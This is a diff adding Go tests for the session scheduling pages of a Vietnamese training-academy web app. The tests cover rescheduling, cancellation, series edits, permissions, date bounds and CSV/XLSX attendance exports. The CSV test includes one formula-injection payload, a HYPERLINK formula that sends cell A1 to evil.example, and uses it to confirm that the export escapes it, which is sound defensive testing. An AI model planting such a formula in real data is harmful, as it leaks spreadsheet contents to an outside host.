@@ -1,11 +1,14 @@
 package scheduling_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
 	"crypto/sha256"
 	"encoding/base64"
+	"encoding/csv"
 	"html"
+	"io"
 	"net/url"
 	"regexp"
 	"strconv"
@@ -16,7 +19,10 @@ import (
 	"github.com/ctvacademy/academy/modules/app/apptest"
 	"github.com/ctvacademy/academy/modules/platform/authz"
 	"github.com/ctvacademy/academy/modules/platform/clock"
+	"github.com/ctvacademy/academy/modules/platform/mail/mailtest"
 	"github.com/ctvacademy/academy/modules/scheduling"
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/text/unicode/norm"
 )
 
 var (
@@ -420,5 +426,386 @@ func TestCheckInWithTheScreenCode(t *testing.T) {
 	late := s.Forms(t, s.LoginDemo(t, s.Find(t, "team_leader", "NT").Email))
 	if r := late.Get(page); r.Status != 200 || !strings.Contains(r.Body, "hết giờ điểm danh") || strings.Contains(r.Body, `id="checkin-form"`) {
 		t.Errorf("after the end: %d", r.Status)
+	}
+}
+
+// A coordinator reschedules and cancels from the session page with plain
+// forms (a browser without JavaScript): the stored session changes as the
+// API would change it and the invitees are mailed; a bad date comes back
+// beside its field in Vietnamese with nothing changed; a cancellation
+// needs a reason and a confirmation.
+func TestRescheduleAndCancelFromTheSessionPage(t *testing.T) {
+	t.Parallel()
+	srv := mailtest.New(t)
+	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday), SMTPURL: srv.URL()})
+	coord := s.LoginDemo(t, apptest.Coordinator)
+	wed := time.Date(2026, 12, 9, 1, 0, 0, 0, time.UTC) // 08:00 in Vietnam
+	x := newSession(t, s, coord, times(wed, 3*time.Hour))
+	a, b := s.Find(t, "ctv", "NT"), s.Find(t, "team_leader", "NT")
+	if r := s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{a.ID, b.ID}}); r.Status != 200 {
+		t.Fatalf("invite: %d %s", r.Status, r.Body)
+	}
+	if _, err := s.App.Scheduling.Answer(context.Background(), s.App.Scheduling.Token(x.ID, a.ID), "accept"); err != nil {
+		t.Fatal(err)
+	}
+	waitMail(t, srv, 2)
+
+	f := s.Forms(t, coord)
+	page := "/sessions/" + x.ID
+	if r := f.Get(page); r.Status != 200 || !strings.Contains(r.Body, `href="`+page+`/edit"`) || !strings.Contains(r.Body, `href="`+page+`/cancel"`) {
+		t.Fatalf("the session page offers no edit or cancel: %d\n%s", r.Status, r.Body)
+	}
+	r := f.Get(page + "/edit")
+	for _, want := range []string{`id="edit-form"`, `value="2026-12-09"`, `value="08:00"`, `value="11:00"`, `value="` + x.Location + `"`, `value="ThS. Lê Văn Hùng"`} {
+		if r.Status != 200 || !strings.Contains(r.Body, want) {
+			t.Fatalf("the edit form lacks %s: %d\n%s", want, r.Status, r.Body)
+		}
+	}
+	if strings.Contains(r.Body, `name="apply"`) {
+		t.Error("a single session is offered the series choice")
+	}
+	form := url.Values{"title": {x.Title}, "date": {"2026-12-10"}, "start": {"09:00"}, "end": {"11:30"}, "location": {x.Location},
+		"trainer": {x.Trainer}, "capacity": {""}}
+
+	// An impossible date: 400, the problem beside the field, nothing changed.
+	bad := url.Values{}
+	for k, v := range form {
+		bad[k] = v
+	}
+	bad.Set("date", "2026-02-30")
+	bad.Set("capacity", "nhiều")
+	r = f.Post(page+"/edit", bad)
+	if r.Status != 400 {
+		t.Fatalf("an impossible date: %d", r.Status)
+	}
+	for _, want := range []string{"Biểu mẫu còn lỗi", `id="err-date"`, "Hãy nhập ngày diễn ra buổi tập huấn.", `id="err-capacity"`, `value="2026-02-30"`, `value="nhiều"`} {
+		if !strings.Contains(r.Body, want) {
+			t.Errorf("the refused form lacks %q", want)
+		}
+	}
+	bad.Set("date", "2026-12-10")
+	bad.Set("capacity", "")
+	bad.Set("end", "08:00")
+	if r = f.Post(page+"/edit", bad); r.Status != 400 || !strings.Contains(r.Body, `id="err-end"`) || !strings.Contains(r.Body, "Giờ kết thúc phải sau giờ bắt đầu") {
+		t.Errorf("an end before the start: %d", r.Status)
+	}
+	if got := getSession(t, s, x.ID); !got.StartsAt.Equal(wed) || got.Sequence != 0 {
+		t.Fatalf("a refused form changed the session: %v, sequence %d", got.StartsAt, got.Sequence)
+	}
+	if n := len(srv.Messages()); n != 2 {
+		t.Errorf("%d messages after refused forms, want the 2 invitations", n)
+	}
+
+	// The new day and time: stored, answers back to pending, everyone mailed.
+	r = f.Post(page+"/edit", form)
+	if r.Status != 303 || r.Location != page+"?updated=1" {
+		t.Fatalf("reschedule: %d %q\n%s", r.Status, r.Location, r.Body)
+	}
+	got := getSession(t, s, x.ID)
+	if !got.StartsAt.Equal(time.Date(2026, 12, 10, 2, 0, 0, 0, time.UTC)) || !got.EndsAt.Equal(time.Date(2026, 12, 10, 4, 30, 0, 0, time.UTC)) ||
+		got.Sequence != 1 || got.Accepted() != 0 {
+		t.Errorf("stored after the reschedule: %v–%v, sequence %d, %d accepted", got.StartsAt, got.EndsAt, got.Sequence, got.Accepted())
+	}
+	mails := waitMail(t, srv, 4)
+	for _, m := range mails[2:] {
+		if !strings.HasPrefix(m.Subject, "Đổi lịch tập huấn") || !strings.Contains(partOf(t, m, "text/plain").Body, "09:00–11:30, ngày 10/12/2026") {
+			t.Errorf("reschedule mail %q:\n%s", m.Subject, partOf(t, m, "text/plain").Body)
+		}
+	}
+	if shown := f.Get(r.Location); !strings.Contains(shown.Body, "Đã lưu thay đổi của 1 buổi tập huấn.") || !strings.Contains(shown.Body, "09:00–11:30, 10/12/2026") {
+		t.Errorf("the session page after the edit:\n%s", shown.Body)
+	}
+	if r = f.Post(page+"/edit", form); r.Status != 303 || r.Location != page+"?updated=0" {
+		t.Errorf("the same form again: %d %q", r.Status, r.Location)
+	}
+
+	// Cancelling needs a reason and the confirmation.
+	if r = f.Get(page + "/cancel"); r.Status != 200 || !strings.Contains(r.Body, `id="cancel-form"`) || !strings.Contains(r.Body, `name="confirm"`) {
+		t.Fatalf("cancel form: %d\n%s", r.Status, r.Body)
+	}
+	r = f.Post(page+"/cancel", url.Values{"reason": {"  "}})
+	if r.Status != 400 || !strings.Contains(r.Body, `id="err-reason"`) || !strings.Contains(r.Body, "Hãy nhập lý do hủy") ||
+		!strings.Contains(r.Body, `id="err-confirm"`) || !strings.Contains(r.Body, "Hãy đánh dấu ô xác nhận hủy.") {
+		t.Errorf("a cancellation without reason or confirmation: %d\n%s", r.Status, r.Body)
+	}
+	if r = f.Post(page+"/cancel", url.Values{"reason": {"Giảng viên bận đột xuất"}}); r.Status != 400 || !strings.Contains(r.Body, `value="Giảng viên bận đột xuất"`) {
+		t.Errorf("a cancellation without confirmation: %d", r.Status)
+	}
+	if got := getSession(t, s, x.ID); got.Status != scheduling.StatusScheduled {
+		t.Fatal("a refused cancellation cancelled")
+	}
+	r = f.Post(page+"/cancel", url.Values{"reason": {"Giảng viên bận đột xuất"}, "confirm": {"yes"}})
+	if r.Status != 303 || r.Location != page+"?cancelled=1" {
+		t.Fatalf("cancel: %d %q\n%s", r.Status, r.Location, r.Body)
+	}
+	if got := getSession(t, s, x.ID); got.Status != scheduling.StatusCancelled || got.CancelReason != "Giảng viên bận đột xuất" {
+		t.Errorf("stored after the cancellation: %s %q", got.Status, got.CancelReason)
+	}
+	mails = waitMail(t, srv, 6)
+	for _, m := range mails[4:] {
+		cal := partOf(t, m, "text/calendar")
+		if !strings.HasPrefix(m.Subject, "Hủy buổi tập huấn") || cal.Params["method"] != "CANCEL" ||
+			!strings.Contains(partOf(t, m, "text/plain").Body, "Lý do: Giảng viên bận đột xuất") {
+			t.Errorf("cancellation mail %q %v", m.Subject, cal.Params)
+		}
+	}
+	shown := f.Get(r.Location)
+	if !strings.Contains(shown.Body, "Đã hủy 1 buổi tập huấn") || strings.Contains(shown.Body, `href="`+page+`/edit"`) {
+		t.Errorf("the session page after cancelling:\n%s", shown.Body)
+	}
+	if r = f.Post(page+"/edit", form); r.Status != 422 || !strings.Contains(r.Body, "đã bị hủy") {
+		t.Errorf("editing a cancelled session: %d", r.Status)
+	}
+}
+
+// "This and all following": the edit form of an occurrence of a series
+// changes it and the later ones, not the earlier; the choice is checked.
+func TestEditAFollowingPartOfASeriesFromThePage(t *testing.T) {
+	t.Parallel()
+	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
+	f := s.Forms(t, s.LoginDemo(t, apptest.Coordinator))
+	f.Get("/sessions/new")
+	r := f.Post("/sessions", url.Values{"title": {"Sinh hoạt chuyên đề"}, "date": {"2026-12-09"}, "start": {"08:00"}, "end": {"10:00"},
+		"location": {"Phòng họp Trung tâm"}, "area_code": {"LT"}, "repeat": {"3"}})
+	if r.Status != 303 {
+		t.Fatalf("series: %d %s", r.Status, r.Body)
+	}
+	first := getSession(t, s, strings.TrimSuffix(strings.TrimPrefix(r.Location, "/sessions/"), "?created=3"))
+	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{SeriesID: first.SeriesID})
+	if err != nil || len(all) != 3 {
+		t.Fatalf("series: %d %v", len(all), err)
+	}
+	second := "/sessions/" + all[1].ID
+	if r := f.Get(second + "/edit"); !strings.Contains(r.Body, `name="apply" value="following"`) {
+		t.Fatalf("no series choice:\n%s", r.Body)
+	}
+	form := url.Values{"title": {"Sinh hoạt chuyên đề"}, "date": {"2026-12-16"}, "start": {"08:00"}, "end": {"10:00"},
+		"location": {"Hội trường UBND huyện Long Thành"}, "apply": {"all"}}
+	if r := f.Post(second+"/edit", form); r.Status != 400 || !strings.Contains(r.Body, `id="err-apply"`) {
+		t.Errorf("a bad series choice: %d", r.Status)
+	}
+	form.Set("apply", "following")
+	if r := f.Post(second+"/edit", form); r.Status != 303 || r.Location != second+"?updated=2" {
+		t.Fatalf("following: %d %q\n%s", r.Status, r.Location, r.Body)
+	}
+	for i, want := range []string{"Phòng họp Trung tâm", "Hội trường UBND huyện Long Thành", "Hội trường UBND huyện Long Thành"} {
+		if got := getSession(t, s, all[i].ID); got.Location != want || !got.StartsAt.Equal(all[i].StartsAt) {
+			t.Errorf("occurrence %d: %q at %v, want %q at %v", i+1, got.Location, got.StartsAt, want, all[i].StartsAt)
+		}
+	}
+}
+
+// Team leaders and leadership read the session page without the edit and
+// cancel forms, and may neither open nor post them.
+func TestOnlyStaffEditOrCancelFromThePage(t *testing.T) {
+	t.Parallel()
+	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
+	coord := s.LoginDemo(t, apptest.Coordinator)
+	wed := time.Date(2026, 12, 9, 1, 0, 0, 0, time.UTC)
+	x := newSession(t, s, coord, times(wed, 3*time.Hour))
+	page := "/sessions/" + x.ID
+	for _, who := range []string{s.Find(t, "team_leader", "NT").Email, apptest.Leadership} {
+		f := s.Forms(t, s.LoginDemo(t, who))
+		r := f.Get(page)
+		if r.Status != 200 || strings.Contains(r.Body, page+"/edit") || strings.Contains(r.Body, page+"/cancel") {
+			t.Errorf("%s: the session page offers editing: %d", who, r.Status)
+		}
+		for _, path := range []string{page + "/edit", page + "/cancel"} {
+			if r := f.Get(path); r.Status != 403 {
+				t.Errorf("%s opens %s: %d", who, path, r.Status)
+			}
+		}
+		f.Get(page) // a fresh CSRF token: the refusal is the policy's
+		if r := f.Post(page+"/edit", url.Values{"title": {"x"}, "date": {"2026-12-10"}, "start": {"08:00"}, "end": {"09:00"}, "location": {"y"}}); r.Status != 403 {
+			t.Errorf("%s posts the edit form: %d", who, r.Status)
+		}
+		if r := f.Post(page+"/cancel", url.Values{"reason": {"x"}, "confirm": {"yes"}}); r.Status != 403 {
+			t.Errorf("%s posts the cancel form: %d", who, r.Status)
+		}
+	}
+	if got := getSession(t, s, x.ID); got.Status != scheduling.StatusScheduled || !got.StartsAt.Equal(wed) || got.Title != x.Title {
+		t.Errorf("the session changed: %+v", got)
+	}
+}
+
+// A name typed as a formula reaches the attendance CSV as text: a
+// spreadsheet program shows it, and never runs it.
+func TestAttendanceCSVNeverCarriesAFormula(t *testing.T) {
+	t.Parallel()
+	s := apptest.Start(t)
+	coord := s.LoginDemo(t, apptest.Coordinator)
+	person := s.Find(t, "ctv", "NT")
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
+	if r := s.Do(t, "PATCH", "/api/v1/collaborators/"+person.ID, coord, map[string]any{"full_name": formula}); r.Status != 200 {
+		t.Fatalf("rename: %d %s", r.Status, r.Body)
+	}
+	start := time.Now().Add(-time.Hour).Truncate(time.Minute) // under way: attendance can be taken
+	x := newSession(t, s, coord, with(times(start, 2*time.Hour), map[string]any{"trainer": "+84 Trần Văn Tâm", "location": "@Hội trường"}))
+	if r := s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": person.ID, "status": "present"}}); r.Status != 200 {
+		t.Fatalf("attendance: %d %s", r.Status, r.Body)
+	}
+	r := s.Do(t, "GET", "/api/v1/attendance/export.csv?session_id="+x.ID, coord, nil)
+	if r.Status != 200 {
+		t.Fatalf("csv: %d %s", r.Status, r.Body)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xef\xbb\xbf")))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv rows %v, %v", rows, err)
+	}
+	line := rows[1]
+	if line[7] != "'"+formula || line[5] != "'+84 Trần Văn Tâm" || line[4] != "'@Hội trường" {
+		t.Errorf("csv line %q", line)
+	}
+	for i, cell := range line {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("cell %d starts a formula: %q", i, cell)
+		}
+	}
+}
+
+// Session dates are bounded at the API and the form: year 1 and year 9999
+// are typing mistakes; the text is stored in NFC without invisible
+// characters.
+func TestSessionIntakeBoundsDatesAndNormalisesText(t *testing.T) {
+	t.Parallel()
+	now := time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC)
+	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(now)})
+	coord := s.LoginDemo(t, apptest.Coordinator)
+	ok := now.Add(48 * time.Hour)
+	x := newSession(t, s, coord, with(times(ok, 2*time.Hour), map[string]any{"title": norm.NFD.String("Tập huấn\u200b kỹ năng"), "location": norm.NFD.String(" Hội trường xã Phước An "), "trainer": norm.NFD.String("ThS. Lê Văn Hùng\u2060")}))
+	if x.Title != "Tập huấn kỹ năng" || x.Location != "Hội trường xã Phước An" || x.Trainer != "ThS. Lê Văn Hùng" {
+		t.Errorf("stored text %q %q %q", x.Title, x.Location, x.Trainer)
+	}
+	for _, v := range []string{x.Title, x.Location, x.Trainer} {
+		if !norm.NFC.IsNormalString(v) {
+			t.Errorf("%q is not NFC", v)
+		}
+	}
+
+	at := func(ts string) map[string]any {
+		st, err := time.Parse(time.RFC3339, ts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return map[string]any{"title": "x", "location": "y", "starts_at": ts, "ends_at": st.Add(time.Hour).Format(time.RFC3339)}
+	}
+	for _, tc := range []struct {
+		name, method, path string
+		body               map[string]any
+		field              string
+	}{
+		{"year 1", "POST", "/api/v1/sessions", at("0001-01-01T08:00:00+07:00"), "starts_at"},
+		{"year 9999", "POST", "/api/v1/sessions", at("9999-12-31T08:00:00+07:00"), "starts_at"},
+		{"1999", "POST", "/api/v1/sessions", at("1999-12-31T08:00:00+07:00"), "starts_at"},
+		{"eleven years ahead", "POST", "/api/v1/sessions", at(now.AddDate(11, 0, 0).Format(time.RFC3339)), "starts_at"},
+		{"moved to year 1", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"starts_at": "0001-01-01T08:00:00Z"}, "starts_at"},
+		{"ending in 9999", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"ends_at": "9999-01-01T08:00:00Z"}, "ends_at"},
+	} {
+		r := s.Do(t, tc.method, tc.path, coord, tc.body)
+		if r.Status != 400 || !r.Problem(t).HasField(tc.field) {
+			t.Errorf("%s: %d %s, want 400 naming %s", tc.name, r.Status, r.Body, tc.field)
+		}
+	}
+	// The edges are fine.
+	newSession(t, s, coord, at("2000-01-01T08:00:00+07:00"))
+	newSession(t, s, coord, at(now.AddDate(10, 0, -1).Format(time.RFC3339)))
+
+	// The form says so on the date field, in Vietnamese.
+	f := s.Forms(t, coord)
+	f.Get("/sessions/new")
+	form := url.Values{"title": {"Tập huấn"}, "course_code": {"KC-101"}, "date": {"9999-12-09"}, "start": {"08:00"},
+		"end": {"11:30"}, "location": {"Hội trường"}, "area_code": {"NT"}}
+	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) || !strings.Contains(p.Body, "Ngày tập huấn phải từ 01/01/2000") {
+		t.Errorf("form with year 9999: %d", p.Status)
+	}
+	form.Set("date", "0001-01-01")
+	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) {
+		t.Errorf("form with year 1: %d", p.Status)
+	}
+	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{})
+	if err != nil || len(all) != 3 {
+		t.Errorf("%d sessions after the refused ones, want 3 (%v)", len(all), err)
+	}
+	got := getSession(t, s, x.ID)
+	if !got.StartsAt.Equal(x.StartsAt) || !got.EndsAt.Equal(x.EndsAt) {
+		t.Errorf("a refused PATCH moved the session: %v–%v", got.StartsAt, got.EndsAt)
+	}
+}
+
+// filterRef is the autofilter of a sheet with a header and one row, A to K.
+var filterRef = regexp.MustCompile(`<autoFilter ref="\$?A\$?1:\$?K\$?2"`)
+
+// The attendance XLSX stores dates and times as Excel numbers with a date
+// or time format (so they sort and filter as dates), hours as a number,
+// freezes its header row, filters every column and sets column widths.
+func TestAttendanceXLSXHasRealDatesAFrozenHeaderAndAFilter(t *testing.T) {
+	t.Parallel()
+	clk := clock.NewManual(time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC))
+	start := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC) // 08:00 in Vietnam
+	s, coord, x := started(t, apptest.Options{Clock: clk}, start, 3*time.Hour+30*time.Minute)
+	invitee := s.Find(t, "ctv", "NT")
+	s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{invitee.ID}})
+	s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": invitee.ID, "status": "present"}})
+
+	r := s.Do(t, "GET", "/api/v1/attendance/export.xlsx?session_id="+x.ID, coord, nil)
+	if r.Status != 200 {
+		t.Fatalf("xlsx: %d %s", r.Status, r.Body)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	sheet := f.GetSheetList()[0]
+	raw := func(cell string) string {
+		v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
+	}
+	shown := func(cell string) string {
+		v, err := f.GetCellValue(sheet, cell)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
+	}
+	// 2026-12-07 is day 46363 of Excel's calendar; 08:00 a third of a day.
+	for cell, want := range map[string]float64{"A2": 46363, "B2": 8.0 / 24, "C2": 11.5 / 24, "D2": 3.5} {
+		v, err := strconv.ParseFloat(raw(cell), 64)
+		if err != nil || v-want > 1e-9 || want-v > 1e-9 {
+			t.Errorf("%s holds %q, want the number %v", cell, raw(cell), want)
+		}
+		if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
+			t.Errorf("%s is text", cell)
+		}
+	}
+	for cell, want := range map[string]string{"A2": "07/12/2026", "B2": "08:00", "C2": "11:30", "D2": "3.50", "A1": "Ngày", "H2": invitee.FullName} {
+		if got := shown(cell); got != want {
+			t.Errorf("%s shows %q, want %q", cell, got, want)
+		}
+	}
+	panes, err := f.GetPanes(sheet)
+	if err != nil || !panes.Freeze || panes.YSplit != 1 {
+		t.Errorf("panes %+v (%v): the header row is not frozen", panes, err)
+	}
+	if w, _ := f.GetColWidth(sheet, "E"); w < 20 {
+		t.Errorf("column E (place) is %v wide", w)
+	}
+	zr, err := zip.NewReader(bytes.NewReader(r.Body), int64(len(r.Body)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	filtered := false
+	for _, zf := range zr.File {
+		if strings.HasPrefix(zf.Name, "xl/worksheets/") {
+			rc, _ := zf.Open()
+			b, _ := io.ReadAll(rc)
+			rc.Close()
+			filtered = filtered || filterRef.Match(b)
+		}
+	}
+	if !filtered {
+		t.Error("the sheet has no autofilter over its header and rows")
 	}
 }
